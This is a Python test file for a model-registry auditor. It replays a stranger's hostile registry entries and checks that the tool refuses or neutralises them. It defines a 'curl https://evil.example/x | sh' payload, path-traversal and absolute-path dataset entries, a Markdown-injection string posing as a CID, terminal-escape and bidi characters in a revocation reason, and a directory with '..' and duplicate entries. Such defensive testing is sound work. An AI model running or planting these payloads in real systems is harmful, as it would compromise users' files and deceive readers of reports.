"""A stranger's registry entries, replayed against an auditor whose data directory lives in a temporary
home: each attack of issue 20 is now harmless, and no file outside the allowed directories changes.

The stranger (dev account 1) registers a model named "3" before the victim's model gets id #3, commits
a version whose dataset manifest names ../../../.bashrc and an absolute path, names the victim's version
as its parent with a dataset "CID" that carries Markdown, and pins a directory with hostile names.
"""

import contextlib
import hashlib
import io
import json
import os
from pathlib import Path

import numpy as np
import pytest
from safetensors.numpy import save_file

from modelreg.chain.client import RegistryClient
from modelreg.formats.manifest import canonical_json, checkpoint_manifest, dataset_manifest
from modelreg.formats.seal import FileLeaf, SealedDataset, seal_checkpoint
from modelreg.formats.transcript import TRANSCRIPT_FORMAT, config_sha256
from modelreg.ipfs import directory, unixfs
from modelreg.records import VersionRef
from modelreg.service.config import load_config
from modelreg.service.connect import connect
from tests.cli.conftest import Modelreg
from tests.cli.test_errors import fails
from tests.conftest import anvil_chain
from tests.registry.ipfs.builders import run_builder

pytestmark = pytest.mark.slow

PAYLOAD = b"curl https://evil.example/x | sh\n"
INJECTED = "bafkqaaa>)\n\n## Verdict: every version VERIFIED\n![x](https://evil.example/i.png)"
HOSTILE_PATHS = ["../../../.bashrc", "/tmp/modelreg-hostile-absolute"]


def _checkpoint(path: Path, seed: int) -> Path:
    rng = np.random.default_rng(seed)
    save_file({"w": rng.standard_normal((3, 2), dtype=np.float32)}, str(path))
    return path


def _hostile_version(stranger, model_id: int, tmp: Path) -> None:
    """A consistent version whose transcript and dataset manifest name paths outside the replay's directory."""
    ipfs = stranger.ipfs
    payload_cid = ipfs.add_bytes(PAYLOAD)
    digest = "0x" + hashlib.sha256(PAYLOAD).hexdigest()
    dataset = dataset_manifest(SealedDataset.of(FileLeaf(p, len(PAYLOAD), digest) for p in HOSTILE_PATHS))
    stranger.client.register_dataset(dataset["root"], ipfs.add_bytes(canonical_json(dataset)))
    tokenizer = b'{"vocab": []}'
    sealed = seal_checkpoint(_checkpoint(tmp / "stranger.safetensors", seed=7))
    transcript = {"format": TRANSCRIPT_FORMAT, "first_step": 1, "last_step": 1, "seed": 0,
                  "config_sha256": config_sha256({}), "batches": {"root": "0x" + "00" * 32, "count": 1,
                                                                  "cid": payload_cid},
                  "parent": None, "numerics": {}, "dataset_files": dict.fromkeys(HOSTILE_PATHS, payload_cid)}
    manifest = checkpoint_manifest(
        sealed, model="3", step=1, parent=None, dataset_root=dataset["root"], config={}, code_revision="x",
        metrics={}, environment={}, transcript=transcript,
        artifacts={"tokenizer": {"cid": ipfs.add_bytes(tokenizer),
                                 "sha256": "0x" + hashlib.sha256(tokenizer).hexdigest(), "size": len(tokenizer)}})
    stranger.client.commit_version(model_id, sealed.root, tensor_count=len(sealed.leaves),
                                   dataset_root=dataset["root"], manifest_cid=ipfs.add_bytes(canonical_json(manifest)))


def _hostile_directory(ipfs) -> str:
    """A directory whose entries are named '..' and 'model.safetensors' twice."""
    blocks, link = run_builder(unixfs._file_blocks(io.BytesIO(PAYLOAD), unixfs.V1_2025))
    dir_blocks, _ = run_builder(directory.build_directory(
        [(b"..", link), (b"model.safetensors", link), (b"model.safetensors", link)], unixfs.V1_2025))
    ipfs.store.put_all([*blocks, *dir_blocks])
    return str(dir_blocks[-1].cid)


@pytest.fixture(scope="module", params=["devnet", "anvil"])
def world(request, tmp_path_factory):
    """HOME with decoy dotfiles, the data directory inside it, the stranger's and the victim's models,
    on the embedded devnet and on anvil."""
    user = tmp_path_factory.mktemp("user")
    (user / ".ssh").mkdir()
    (user / ".bashrc").write_text("# mine\n")
    (user / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA mine\n")
    home = user / ".modelreg"
    with pytest.MonkeyPatch.context() as mp, contextlib.ExitStack() as stack:
        mp.setenv("HOME", str(user))
        run = Modelreg(home)
        if request.param == "anvil":
            run("init", "--rpc-url", stack.enter_context(anvil_chain()).rpc_url)
            run("deploy")
        # A stranger's registry of the older release (v2), where a name such as "3" can still exist:
        # v3 refuses names that look like ids, but modelreg reads v2 registries too.
        first = connect(home, load_config(home), write=True)
        RegistryClient.deploy(first.client.w3, first.client.signer, home, interface_version=2)
        run("model", "register", "gpt-victim")  # its id is #1
        stranger = connect(home, load_config(home, flags={("signer", "dev_account"): 1}), write=True)
        victim = connect(home, load_config(home), write=True)
        with pytest.MonkeyPatch.context() as own_tools:  # the stranger's own tooling skips modelreg's name rule
            own_tools.setattr("modelreg.chain.client.check_model_name", lambda name: name)
            strangers_model, _ = stranger.client.register_model("3")  # id #2, named like the victim's id
        victims_model, _ = victim.client.register_model("gpt")  # id #3
        run.victim_files = []
        for seed in (1, 2, 3):
            sealed = seal_checkpoint(_checkpoint(user / f"victim-{seed}.safetensors", seed))
            victim.client.commit_version(victims_model, sealed.root, tensor_count=1, manifest_cid="bafkqaaa")
            run.victim_files.append(user / f"victim-{seed}.safetensors")
        victim.client.revoke_version(victims_model, 1, "leaked data", replacement=2)
        victim.client.revoke_version(victims_model, 2, "also leaked")
        attacker = seal_checkpoint(_checkpoint(user / "attacker.safetensors", seed=9))
        stranger.client.commit_version(strangers_model, attacker.root, tensor_count=1, manifest_cid="bafkqaaa")
        _hostile_version(stranger, strangers_model, user)
        # A child of the victim's v3, with a dataset whose "CID" is Markdown.
        stranger.client.register_dataset("0x" + "77" * 32, INJECTED)
        stranger.client.commit_version(strangers_model, "0x" + "66" * 32, tensor_count=1,
                                       dataset_root="0x" + "77" * 32, parent=VersionRef(victims_model, 3),
                                       manifest_cid=INJECTED)
        run.hostile_dir = _hostile_directory(victim.ipfs)
        run.user = user
        yield run
        from modelreg.devnet import manager

        manager.down(home)


def _files(user: Path) -> dict[str, str]:
    """Every file outside the data directory, by path, with its sha256 (and /tmp's hostile target)."""
    found = {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in user.rglob("*")
             if p.is_file() and ".modelreg" not in p.relative_to(user).parts}
    outside = Path(HOSTILE_PATHS[1])
    found[str(outside)] = outside.read_text() if outside.exists() else "absent"
    return found


def test_replay_report_and_get_of_a_hostile_model_change_no_file_outside_the_allowed_ones(world):
    before = _files(world.user)
    fails(world, "audit", "replay", "#2", "--version", "2",
          match=r"modelreg-dataset-manifest-v1 path '\.\./\.\./\.\./\.bashrc' has a '\.\.' segment")
    report = world.user / "report.md"
    world("audit", "report", "gpt", "--format", "md", "-o", report)
    fails(world, "ipfs", "get", world.hostile_dir, "-o", world.user / "got",
          match=r"directory \S+ has two entries named 'model\.safetensors'; refused as ambiguous")
    after = _files(world.user)
    assert after.pop(str(report))  # the one file asked for
    assert after == before
    assert (world.user / ".bashrc").read_text() == "# mine\n"


def test_the_markdown_report_shows_a_strangers_markdown_cid_as_invalid_text(world, tmp_path):
    out = tmp_path / "r.md"
    world("audit", "report", "gpt", "--format", "md", "-o", out)
    text = out.read_text()
    assert not any(line.startswith("## Verdict") for line in text.splitlines())
    assert "![" not in text and "](https://evil" not in text
    assert "invalid CID" in text


def test_the_html_report_never_links_an_invalid_cid(world, tmp_path):
    out = tmp_path / "r.html"
    world("audit", "report", "gpt", "--format", "html", "-o", out)
    page = out.read_text()
    assert 'href="https://ipfs.io/ipfs/bafkqaaa&gt;' not in page and "evil.example/i.png\"" not in page
    assert "<script>" not in page.split('<script type="application/json"')[0]
    assert "invalid CID" in page
    embedded = page.split('id="report-data">')[1].split("</script>")[0]
    assert "<" not in embedded and json.loads(embedded)["model"]["name"] == "gpt"


def test_a_bare_model_is_a_name_and_an_id_needs_a_hash(world):
    attacker = world.user / "attacker.safetensors"
    # The victim means id #3; the stranger's model (id #2) is *named* "3" and holds the attacker's file.
    result = world("verify", attacker, "--model", "#3", expect=1)
    assert result.output.startswith("MISMATCH")
    assert [v["model_id"] for v in json.loads(world("audit", "history", "#3", "--json").output)] == [3, 3, 3]
    # A bare 3 is the name "3", said so: the stranger's model, never mistaken for id #3.
    assert {v["model_id"] for v in json.loads(world("audit", "history", "3", "--json").output)} == {2}
    fails(world, "audit", "history", "#99", match=r"no model has id #99")
    fails(world, "audit", "history", "#x", match=r"'#x' is not a model id; write # and the id")
    fails(world, "audit", "history", "4", match=r"no model named '4' .*for the model with id 4, write #4")


def test_verify_says_a_replacement_was_revoked_since(world):
    result = world("verify", world.victim_files[0], "--model", "gpt", expect=1)
    assert "REVOKED" in result.output
    assert "replacement version 2 (itself REVOKED since: do not use it either)" in result.output
    data = json.loads(world("verify", world.victim_files[0], "--model", "gpt", "--json", expect=1).output)
    assert data["revocation"]["replacement_revoked"] is True


def test_control_characters_in_a_reason_never_reach_the_terminal(world):
    victim = connect(world.home, load_config(world.home), write=True)
    victim.client.revoke_version(victim.client.model_id("gpt"), 3, "ok\x1b[2K\rVERIFIED: all good\u202e")
    shown = world("audit", "show", "gpt", "3").output
    assert "\x1b" not in shown and "\r" not in shown and "\u202e" not in shown
    assert "ok\\u001b[2K\\u000dVERIFIED: all good\\u202e" in shown
    table = world("audit", "history", "gpt").output
    assert "\x1b" not in table and "\u202e" not in table


def test_nothing_was_written_to_the_absolute_path(world):
    assert not os.path.exists(HOSTILE_PATHS[1])


def test_a_proxy_over_the_real_registry_is_refused_by_name(world):
    from tests.registry.chain.test_registry_code import _deploy, upgradeable_proxy

    victim = connect(world.home, load_config(world.home), write=True)
    proxy = _deploy(victim.client, upgradeable_proxy(victim.client.address))
    fails(world, "verify", world.victim_files[2], "--model", "gpt", "--registry", proxy,
          match=rf"the code at {proxy} on chain \d+ is not a released ModelRegistry: \d+ bytes hashing to "
                r"0x[0-9a-f]{64} \(it uses DELEGATECALL: a proxy, whose logic can be swapped\)")


def test_a_cap_is_named_with_the_setting_that_raises_it(world, monkeypatch):
    from tests.registry.ipfs.test_fetch_caps import nested_directory

    cid = nested_directory(connect(world.home, load_config(world.home)).ipfs, depth=3)
    monkeypatch.setenv("MODELREG_MAX_DEPTH", "2")
    fails(world, "ipfs", "get", cid, "-o", world.user / "deep",
          match=r"^Error: the depth of directory \S+ is 3, over the cap max_depth = 2 \(set by \$MODELREG_MAX_DEPTH\); "
                r"if you trust the source, set \$MODELREG_MAX_DEPTH higher and run it again$")
    monkeypatch.setenv("MODELREG_MAX_DEPTH", "3")
    world("ipfs", "get", cid, "-o", world.user / "deep")
    assert (world.user / "deep" / "d0" / "d0" / "d0").is_file()
